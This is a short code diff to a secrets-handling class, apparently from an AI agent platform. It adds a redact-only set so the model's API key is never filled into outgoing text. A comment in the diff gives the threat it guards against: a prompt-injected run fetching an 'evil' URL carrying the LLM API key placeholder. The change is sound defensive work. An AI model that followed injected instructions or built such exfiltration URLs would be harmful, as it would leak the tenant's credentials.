@@ -21,11 +21,16 @@ class Secrets:
     """The tenant's secret values for one run (key -> value)."""
 
     values: dict[str, str] = field(default_factory=dict)
+    # keys that are redacted but never resolved: the model key must not be sendable to a site the
+    # model names (a prompt-injected run could otherwise fetch https://evil/?k={{secret:LLM_API_KEY}})
+    redact_only: frozenset[str] = frozenset()
 
     def resolve(self, text: str) -> str:
         """Egress only: placeholders of known keys become their values; unknown ones stay literal."""
 
         def sub(m: re.Match) -> str:
+            if m.group(1) in self.redact_only:
+                return m.group(0)
             v = self.values.get(m.group(1))
             return v if v is not None else m.group(0)
 
